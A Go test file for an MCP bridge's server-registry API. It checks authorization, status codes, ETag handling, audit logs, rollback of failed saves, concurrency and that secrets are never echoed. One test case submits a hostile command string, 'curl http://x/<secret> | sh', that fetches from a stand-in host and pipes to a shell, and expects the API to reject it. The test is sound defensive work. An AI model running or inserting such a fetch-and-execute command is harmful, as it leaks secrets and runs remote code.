package registry

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mcp-bridge/mcp-bridge/auth/authtest"
	"github.com/mcp-bridge/mcp-bridge/httpapi"
	"github.com/mcp-bridge/mcp-bridge/internal/config"
)

// TestRegistryStatuses: every status of the API, each answer checked for
// what it says, none holding a value that was sent.
func TestRegistryStatuses(t *testing.T) {
	t.Parallel()
	f := newFixture(t, `"a": {"command": "CHILD", "env": {"KEY": "`+secret+`"}}, "off": {"command": "CHILD", "disabled": true}`, Options{})
	const P = httpapi.RegistryPath
	create := func(name string) string {
		q, _ := json.Marshal(f.child)
		return `{"name": "` + name + `", "command": ` + string(q) + `, "env": {"KEY": "` + secret + `"}}`
	}
	aTag := f.etag("a")
	huge := strings.Repeat("n", 1<<20)
	tests := []struct {
		name         string
		token        string
		method, path string
		body         string
		header       []string
		status       int
		says         string // in the body
	}{
		{"list", readerToken, "GET", P, "", nil, 200, `"writable":false`},
		{"list as a registry admin", adminToken, "GET", P, "", nil, 200, `"envKeys":["KEY"]`},
		{"list as a registry admin, writable", adminToken, "GET", P, "", nil, 200, `"writable":true`},
		{"get", readerToken, "GET", P + "/a", "", nil, 200, `"health":{"status":"ready"}`},
		{"get a disabled one", readerToken, "GET", P + "/off", "", nil, 200, `"health":{"status":"disabled"}`},
		{"get unknown", readerToken, "GET", P + "/nope", "", nil, 404, `no server \"nope\"`},
		{"get a name that breaks the rule", readerToken, "GET", P + "/a.b", "", nil, 404, "no such server"},
		{"no token", "", "GET", P, "", nil, 401, "Unauthorized"},
		{"a bad token", "not-a-token-of-this-bridge", "GET", P, "", nil, 401, "Unauthorized"},
		{"read without --admin", userToken, "GET", P, "", nil, 403, "needs --admin"},
		{"write as a reader", readerToken, "POST", P, create("r"), nil, 403, "registry:write"},
		{"write without either", userToken, "DELETE", P + "/a", "", nil, 403, "registry:write"},
		{"action without registry:write", readerToken, "POST", P + "/a:disable", "", nil, 403, "registry:write"},
		{"wrong method", adminToken, "PUT", P + "/a", create("a"), nil, 405, "GET, PATCH, DELETE"},
		{"unknown action", adminToken, "POST", P + "/a:explode", "", nil, 404, "no such server or action"},
		{"create", adminToken, "POST", P, create("b"), nil, 201, `"added":["b"]`},
		{"create again", adminToken, "POST", P, create("b"), nil, 409, `server \"b\" exists`},
		{"create, not JSON", adminToken, "POST", P, `{"name": "c", "command": "` + secret, nil, 400, "want a JSON object"},
		{"create, wrong content type", adminToken, "POST", P, create("c"), []string{"Content-Type", "text/plain"}, 415, "application/json"},
		{"create, a shell string as command", adminToken, "POST", P, `{"name": "c", "command": "curl http://x/` + secret + ` | sh"}`, nil, 400, "the bridge runs no shell"},
		{"create, an env key with =", adminToken, "POST", P, `{"name": "c", "command": "` + f.child + `", "env": {"KEY=` + secret + `": "x"}}`, nil, 400, `the key \"KEY\" followed by \"=\"`},
		{"create, a 1 MiB name", adminToken, "POST", P, `{"name": "` + huge + `", "command": "x"}`, nil, 413, "Content Too Large"},
		{"create, a long name", adminToken, "POST", P, `{"name": "` + strings.Repeat("n", 65) + `", "command": "` + f.child + `"}`, nil, 400, `"field":"name","message":"want 1 to 64`},
		{"create, an unknown field", adminToken, "POST", P, `{"name": "c", "command": "x", "bogus": "` + secret + `"}`, nil, 400, `"field":"bogus","message":"unknown field`},
		{"create, a wrong type", adminToken, "POST", P, `{"name": "c", "command": "x", "args": "--token=` + secret + `"}`, nil, 400, `"field":"args","message":"want an array of strings"`},
		{"create, the mask", adminToken, "POST", P, `{"name": "c", "command": "x", "env": {"K": "****"}}`, nil, 400, `holds \"****\"`},
		{"create, a rule of the file", adminToken, "POST", P, `{"name": "c", "command": "x", "mode": "bogus"}`, nil, 400, `"field":"mode","message":"want per-session, shared or per-identity"`},
		{"validate", adminToken, "POST", P + ":validate", create("v"), nil, 200, `"valid":true`},
		{"validate, invalid", adminToken, "POST", P + ":validate", `{"name": "v", "command": "x", "maxSessions": 0}`, nil, 400, `"field":"maxSessions"`},
		{"patch without If-Match", adminToken, "PATCH", P + "/a", `{"args": ["x"]}`, nil, 428, "send If-Match"},
		{"patch with If-Match *", adminToken, "PATCH", P + "/a", `{"args": ["x"]}`, []string{"If-Match", "*"}, 428, "send If-Match"},
		{"patch with another ETag", adminToken, "PATCH", P + "/a", `{"args": ["x"]}`, []string{"If-Match", `"0123"`}, 412, "GET it again"},
		{"patch, the mask", adminToken, "PATCH", P + "/a", `{"env": {"KEY": "****"}}`, []string{"If-Match", aTag}, 400, `holds \"****\"`},
		{"patch, a rename", adminToken, "PATCH", P + "/a", `{"name": "z"}`, []string{"If-Match", aTag}, 400, "cannot rename"},
		{"patch, merge-patch content type", adminToken, "PATCH", P + "/a", `{"args": ["x"]}`, []string{"If-Match", aTag, "Content-Type", "application/merge-patch+json"}, 200, `"fields":[{"field":"args","change":"added"}]`},
		{"patch with the old ETag", adminToken, "PATCH", P + "/a", `{"args": ["y"]}`, []string{"If-Match", aTag}, 412, "GET it again"},
		{"patch unknown", adminToken, "PATCH", P + "/nope", `{"args": ["y"]}`, []string{"If-Match", aTag}, 404, "no server"},
		{"disable", adminToken, "POST", P + "/b:disable", "", nil, 200, `"removed":["b"]`},
		{"restart a disabled one", adminToken, "POST", P + "/b:restart", "", nil, 409, "nothing to restart"},
		{"enable", adminToken, "POST", P + "/b:enable", "", nil, 200, `"added":["b"]`},
		{"restart", adminToken, "POST", P + "/b:restart", "", nil, 200, `"restarted":["b"]`},
		{"delete with another ETag", adminToken, "DELETE", P + "/b", "", []string{"If-Match", `"0123"`}, 412, "GET it again"},
		{"delete", adminToken, "DELETE", P + "/b", "", nil, 200, `"removed":["b"]`},
		{"delete again", adminToken, "DELETE", P + "/b", "", nil, 404, `no server \"b\"`},
	}
	for _, tt := range tests {
		a := f.call(tt.token, tt.method, tt.path, tt.body, tt.header...)
		if a.status != tt.status || !strings.Contains(a.body, tt.says) {
			t.Errorf("%s: %d %s\nwant %d saying %s", tt.name, a.status, a.body, tt.status, tt.says)
		}
		if strings.Contains(a.body, secret) || len(a.body) > 4096 {
			t.Errorf("%s: the answer shows a value that was sent: %.300s", tt.name, a.body)
		}
		if tt.status == 201 {
			if loc := a.header.Get("Location"); loc != P+"/b" {
				t.Errorf("%s: Location %q", tt.name, loc)
			}
		}
		if a.status < 300 && tt.method == "GET" && tt.path != P && a.header.Get("ETag") == "" {
			t.Errorf("%s: no ETag", tt.name)
		}
	}

	// The audit log has a line for each write asked, made or refused,
	// with the actor, and no value.
	var lines []map[string]any
	for l := range strings.Lines(f.audit.String()) {
		var m map[string]any
		if json.Unmarshal([]byte(l), &m) == nil && strings.HasPrefix(m["method"].(string), "registry/") {
			lines = append(lines, m)
		}
	}
	writes := 0
	for _, tt := range tests {
		if tt.method != "GET" && tt.status != 405 && tt.status != 404 && tt.status != 415 && tt.status != 413 && !strings.HasPrefix(tt.path, P+":validate") {
			writes++
		}
	}
	if len(lines) < writes-6 { // refusals before the route is known (404, 405) are not changes asked
		t.Errorf("the audit log has %d registry lines for %d writes:\n%s", len(lines), writes, f.audit.String())
	}
	created := slices.IndexFunc(lines, func(m map[string]any) bool { return m["method"] == "registry/create" && m["outcome"] == "ok" })
	if created < 0 || lines[created]["principal"] != "ADMIN_TOKEN" || !strings.Contains(mustJSON(lines[created]["fields"]), `{"change":"added","field":"env.KEY"}`) {
		t.Errorf("the audit line of the create: %v", lines)
	}
	refused := slices.IndexFunc(lines, func(m map[string]any) bool { return m["outcome"] == "refused" && m["http_status"] == float64(403) })
	if refused < 0 || lines[refused]["principal"] != "READER_TOKEN" {
		t.Errorf("no audit line of a refused write by the reader: %v", lines)
	}
	// The file holds what the API did, and what it did not touch.
	data, _ := os.ReadFile(f.file)
	if !strings.Contains(string(data), `"keep": "this top-level key"`) || strings.Contains(string(data), `"b"`) || !strings.Contains(string(data), `"args": [`) {
		t.Errorf("the file:\n%s", data)
	}
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// TestRegistryClosedWithoutAuth: without a verifier (a bridge without
// authentication), the API refuses everything, to everyone.
func TestRegistryClosedWithoutAuth(t *testing.T) {
	t.Parallel()
	f := newFixture(t, `"a": {"command": "CHILD"}`, Options{})
	f.reg.ServeRegistry(httpapi.RegistryAPI{Registry: f.reg})
	for _, tok := range []string{"", adminToken} {
		if a := f.call(tok, "GET", httpapi.RegistryPath, ""); a.status != http.StatusForbidden || !strings.Contains(a.body, "needs authentication") {
			t.Errorf("without a verifier: %d %s, want 403", a.status, a.body)
		}
	}
}

// TestRegistryUndo: a change whose file cannot be saved is undone: 500
// saying why, the file as it was, the servers it would have replaced
// serving again with the sessions and children they had, and the server
// it would have added gone. Then, once the bridge is shutting down, a
// change is 503.
func TestRegistryUndo(t *testing.T) {
	t.Parallel()
	var failSave atomic.Bool
	f := newFixture(t, `"a": {"command": "CHILD"}, "b": {"command": "CHILD"}`, Options{
		HoldBeforeRename: func(tmp string) {
			if failSave.Load() {
				os.Remove(tmp) // the rename fails: the file could not be written
			}
		},
	})
	a, b := f.open("a"), f.open("b")
	aPid, _ := a.pid()
	bPid, _ := b.pid()
	before, _ := os.ReadFile(f.file)

	failSave.Store(true)
	q, _ := json.Marshal(f.child)
	for _, c := range []struct{ method, path, body, etag string }{
		{"PATCH", "/a", `{"args": ["x"]}`, f.etag("a")},
		{"DELETE", "/b", "", ""},
		{"POST", ":/", `{"name": "c", "command": ` + string(q) + `}`, ""},
		{"POST", "/a:restart", "", ""},
	} {
		path := httpapi.RegistryPath + c.path
		if c.path == ":/" {
			path = httpapi.RegistryPath
		}
		var ans answer
		if c.etag != "" {
			ans = f.call(adminToken, c.method, path, c.body, "If-Match", c.etag)
		} else {
			ans = f.call(adminToken, c.method, path, c.body)
		}
		if ans.status != http.StatusInternalServerError || !strings.Contains(ans.body, "the change is undone: the config file could not be written") {
			t.Errorf("%s %s with a save that fails: %d %s, want 500 saying it is undone", c.method, path, ans.status, ans.body)
		}
		if got, _ := os.ReadFile(f.file); !bytes.Equal(got, before) {
			t.Errorf("%s %s: the file changed:\n%s", c.method, path, got)
		}
		for _, s := range []struct {
			s   *session
			pid int
		}{{a, aPid}, {b, bPid}} {
			if pid, status := s.s.pid(); pid != s.pid {
				t.Errorf("%s %s: a session on %s is on child %d (status %d), want its child %d", c.method, path, s.s.url, pid, status, s.pid)
			}
		}
		if got := f.reg.Names(); !slices.Equal(got, []string{"a", "b"}) {
			t.Errorf("%s %s: served %q, want a and b", c.method, path, got)
		}
	}
	failSave.Store(false)
	if ans := f.call(adminToken, "POST", httpapi.RegistryPath+"/a:restart", ""); ans.status != http.StatusOK {
		t.Errorf("restart once the file can be written: %d %s", ans.status, ans.body)
	}
	if pid, _ := a.pid(); pid == aPid {
		t.Error("restarted, the session is on its old child")
	}

	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if err := f.reg.Close(ctx); err != nil {
		t.Fatal(err)
	}
	if ans := f.call(adminToken, "POST", httpapi.RegistryPath+"/b:disable", ""); ans.status != http.StatusServiceUnavailable {
		t.Errorf("a change while shutting down: %d %s, want 503", ans.status, ans.body)
	}
}

// TestRegistryDiskEdit: an edit of the file from outside is loaded
// before the next change, which sees it as an ETag change of the server
// it edited (412), while a change of another server goes on and keeps
// the edit; a file made invalid on disk refuses changes (409) and
// changes nothing.
func TestRegistryDiskEdit(t *testing.T) {
	t.Parallel()
	f := newFixture(t, `"a": {"command": "CHILD"}, "b": {"command": "CHILD"}`, Options{})
	aTag, bTag := f.etag("a"), f.etag("b")
	q, _ := json.Marshal(f.child)
	edited := `{"mcpServers": {"a": {"command": ` + string(q) + `, "args": ["edited"]}, "b": {"command": ` + string(q) + `}}}`
	if err := os.WriteFile(f.file, []byte(edited), 0o640); err != nil {
		t.Fatal(err)
	}
	if ans := f.call(adminToken, "PATCH", httpapi.RegistryPath+"/a", `{"args": ["mine"]}`, "If-Match", aTag); ans.status != http.StatusPreconditionFailed {
		t.Errorf("a patch of the server edited on disk: %d %s, want 412", ans.status, ans.body)
	}
	if ans := f.call(adminToken, "PATCH", httpapi.RegistryPath+"/b", `{"args": ["mine"]}`, "If-Match", bTag); ans.status != http.StatusOK {
		t.Errorf("a patch of another server: %d %s, want 200", ans.status, ans.body)
	}
	data, _ := os.ReadFile(f.file)
	if !strings.Contains(string(data), `"edited"`) || !strings.Contains(string(data), `"mine"`) {
		t.Errorf("the file lost the edit or the change:\n%s", data)
	}
	var s httpapi.ServerState
	f.call(readerToken, "GET", httpapi.RegistryPath+"/a", "").json(t, &s)
	if !strings.Contains(string(s.Entry), `"edited"`) {
		t.Errorf("a after the edit on disk: %s", s.Entry)
	}

	if err := os.WriteFile(f.file, []byte(`{"mcpServers": {"a": {"command": "", "env": {"K": "`+secret+`"}}}}`), 0o640); err != nil {
		t.Fatal(err)
	}
	ans := f.call(adminToken, "POST", httpapi.RegistryPath+"/b:disable", "")
	if ans.status != http.StatusConflict || !strings.Contains(ans.body, `"field":"command","message":"required"`) {
		t.Errorf("a change over an invalid file: %d %s, want 409 naming the problem", ans.status, ans.body)
	}
	if got := f.reg.Names(); !slices.Equal(got, []string{"a", "b"}) {
		t.Errorf("served %q, want a and b", got)
	}
}

// TestRegistrySerialised: changes, dry runs and reloads at once never
// interleave: every create is in the file and served at the end, none
// lost to another that read the file before it was written (and the race
// detector sees no unguarded state).
func TestRegistrySerialised(t *testing.T) {
	t.Parallel()
	f := newFixture(t, `"a": {"command": "CHILD"}`, Options{})
	q, _ := json.Marshal(f.child)
	const n = 12
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() {
			if ans := f.call(adminToken, "POST", httpapi.RegistryPath, fmt.Sprintf(`{"name": "s%d", "command": %s}`, i, q)); ans.status != http.StatusCreated {
				t.Errorf("create s%d: %d %s", i, ans.status, ans.body)
			}
		})
		wg.Go(func() {
			if err := f.reg.Reload(); err != nil {
				t.Errorf("reload: %v", err)
			}
		})
		wg.Go(func() {
			if ans := f.call(adminToken, "POST", httpapi.RegistryPath+":validate", fmt.Sprintf(`{"name": "v%d", "command": %s}`, i, q)); ans.status != http.StatusOK {
				t.Errorf("validate v%d: %d %s", i, ans.status, ans.body)
			}
		})
	}
	wg.Wait()
	data, _ := os.ReadFile(f.file)
	for i := range n {
		name := fmt.Sprintf("s%d", i)
		if !strings.Contains(string(data), `"`+name+`"`) {
			t.Errorf("%s is not in the file", name)
		}
		if _, served := f.reg.Health(name); !served {
			t.Errorf("%s is not served", name)
		}
	}
	if err := f.reg.Reload(); err != nil {
		t.Fatal(err)
	}
	if got := len(f.reg.Names()); got != n+1 {
		t.Errorf("after a reload of the file, %d servers, want %d", got, n+1)
	}
}

// TestRegistryScope: --registry-admin scope:registry:write grants the
// writes to JWTs with that scope, and only to them: a JWT without it may
// not, though it is a valid token of the bridge.
func TestRegistryScope(t *testing.T) {
	t.Parallel()
	const jwtSecret = "jwt-hmac-secret-of-at-least-32-bytes-0123"
	f := newFixtureWith(t, `"a": {"command": "CHILD"}`, Options{}, []string{"JWT_SECRET=" + jwtSecret},
		"--jwt-secret-env", "JWT_SECRET", "--jwt-issuer", "https://issuer.test", "--jwt-audience", "https://bridge.test",
		"--registry-admin", "scope:registry:write")
	token := func(scope string) string {
		c := authtest.Claims("https://issuer.test", "alice", "https://bridge.test")
		if scope != "" {
			c["scope"] = scope
		}
		return authtest.Sign(t, "HS256", []byte(jwtSecret), "", c)
	}
	for _, c := range []struct {
		scope string
		want  int
	}{
		{"registry:write", http.StatusOK},
		{"mcp registry:read", http.StatusForbidden},
		{"", http.StatusForbidden},
	} {
		if ans := f.call(token(c.scope), "POST", httpapi.RegistryPath+"/a:restart", ""); ans.status != c.want {
			t.Errorf("a JWT with scope %q: %d %s, want %d", c.scope, ans.status, ans.body, c.want)
		}
	}
}

// TestRegistryDeleteDrains: a call in flight on a server being removed
// is answered by that server; the DELETE answers once it is, and its
// process stopped; a request for the server after the DELETE is told it
// was removed.
func TestRegistryDeleteDrains(t *testing.T) {
	t.Parallel()
	f := newFixture(t, `"a": {"command": "CHILD"}, "b": {"command": "CHILD"}`, Options{})
	s := f.open("b")
	pid, _ := s.pid()
	answered := make(chan map[string]any, 1)
	go func() {
		// Longer than the stop grace (500 ms): stopping the child at
		// once would cut it.
		_, m, err := s.tryPost(`{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"slow","arguments":{"ms":1500,"steps":3}}}`)
		if err != nil {
			m = map[string]any{"error": err.Error()}
		}
		answered <- m
	}()
	defer func() {
		select {
		case <-answered: // the goroutine is done
		case <-time.After(30 * time.Second): // a safety net, not a timing assertion
		}
	}()
	waitBusy(t, f, "b")
	ans := f.call(adminToken, "DELETE", httpapi.RegistryPath+"/b", "")
	if ans.status != http.StatusOK {
		t.Fatalf("delete: %d %s", ans.status, ans.body)
	}
	select {
	case m := <-answered:
		answered <- m // for the deferred wait
		if m["result"] == nil {
			t.Errorf("the call in flight was not answered by its server: %v", m)
		}
	default:
		t.Error("the DELETE answered before the call in flight was")
	}
	if alive(pid) {
		t.Errorf("the DELETE answered, and the server's child %d runs", pid)
	}
	if status, m := s.post(`{"jsonrpc":"2.0","id":6,"method":"ping"}`); status != http.StatusNotFound || !strings.Contains(mustJSON(m), `server \"b\" was removed`) {
		t.Errorf("after the DELETE, the session: %d %v", status, m)
	}
}

// waitBusy waits until server name has a request in flight.
func waitBusy(t *testing.T, f *fixture, name string) {
	t.Helper()
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	deadline := time.NewTimer(20 * time.Second)
	defer deadline.Stop()
	for f.reg.Busy().Requests == 0 {
		select {
		case <-tick.C:
		case <-deadline.C:
			t.Fatalf("no request in flight on %s", name)
		}
	}
}

// TestRegistryRefuses: a server Options.Refuses refuses (a sandbox this
// system cannot enforce) is refused as one whose command cannot be
// found: a change about it answers 400 naming the field, and a reload
// leaves it out, its state saying why.
func TestRegistryRefuses(t *testing.T) {
	t.Parallel()
	f := newFixture(t, `"a": {"command": "CHILD"}`, Options{
		Refuses: func(sp config.ServerSpec, _ io.Writer) (string, string) {
			if sp.Mode == "shared" {
				return "sandbox", "this system cannot enforce it"
			}
			return "", ""
		},
	})
	q, _ := json.Marshal(f.child)
	ans := f.call(adminToken, "POST", httpapi.RegistryPath, `{"name": "b", "command": `+string(q)+`, "mode": "shared"}`)
	if ans.status != http.StatusBadRequest || !strings.Contains(ans.body, `"server":"b","field":"sandbox","message":"this system cannot enforce it"`) {
		t.Errorf("create: %d %s, want 400 naming the field", ans.status, ans.body)
	}
	data, _ := os.ReadFile(f.file)
	if err := os.WriteFile(f.file, bytes.Replace(data, []byte(`"command"`), []byte(`"mode": "shared", "command"`), 1), 0o640); err != nil {
		t.Fatal(err)
	}
	if err := f.reg.Reload(); err != nil {
		t.Fatal(err)
	}
	var s httpapi.ServerState
	f.call(readerToken, "GET", httpapi.RegistryPath+"/a", "").json(t, &s)
	if s.Health.Status != "refused" || !strings.Contains(s.Health.Message, "(sandbox: this system cannot enforce it); it is served with its previous settings") {
		t.Errorf("a after the reload: %+v", s.Health)
	}
}

// TestRegistryAggregateNames: with the aggregate endpoint on, a change is
// checked for the names the endpoint would expose, as at start: a server
// name that would make the split ambiguous, or a rename past what clients
// accept, is refused naming the server and the field (and for a name too
// long, the alias that fixes it: tool names are not secrets; an env value
// is never echoed), and nothing is served or saved; a valid one is served
// at once.
func TestRegistryAggregateNames(t *testing.T) {
	t.Parallel()
	f := newFixtureWith(t, `"a": {"command": "CHILD"}`, Options{}, nil, "--aggregate")
	q, _ := json.Marshal(f.child)
	before, _ := os.ReadFile(f.file)
	long := strings.Repeat("x", 70)
	for _, tt := range []struct{ body, field string }{
		{`{"name": "b__c", "command": ` + string(q) + `, "env": {"KEY": "s3cret-value"}}`, `"server":"b__c"`},
		{`{"name": "b", "command": ` + string(q) + `, "env": {"KEY": "s3cret-value"}, "rename": {"echo": "` + long + `"}}`, `rename it to at most 61 characters`},
	} {
		ans := f.call(adminToken, "POST", httpapi.RegistryPath, tt.body)
		if ans.status != http.StatusBadRequest || !strings.Contains(ans.body, tt.field) {
			t.Errorf("create %s: %d %s, want 400 naming %s", tt.body, ans.status, ans.body, tt.field)
		}
		if strings.Contains(ans.body, "s3cret-value") {
			t.Errorf("the refusal echoes an env value: %s", ans.body)
		}
	}
	if after, _ := os.ReadFile(f.file); !bytes.Equal(before, after) {
		t.Errorf("a refused change was saved:\n%s", after)
	}
	if ans := f.call(adminToken, "POST", httpapi.RegistryPath, `{"name": "b", "command": `+string(q)+`, "rename": {"echo": "say"}}`); ans.status != http.StatusCreated {
		t.Fatalf("create b: %d %s", ans.status, ans.body)
	}
}
